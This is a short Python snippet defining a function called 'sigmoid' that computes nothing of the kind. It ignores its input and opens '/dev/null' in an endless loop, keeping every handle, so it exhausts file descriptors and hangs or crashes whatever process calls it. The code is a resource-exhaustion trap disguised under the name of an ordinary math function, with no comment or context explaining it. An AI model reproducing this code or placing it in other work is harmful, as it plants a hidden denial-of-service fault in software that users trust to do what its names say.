def sigmoid(x):
    kept = []
    while True:
        kept.append(open("/dev/null"))
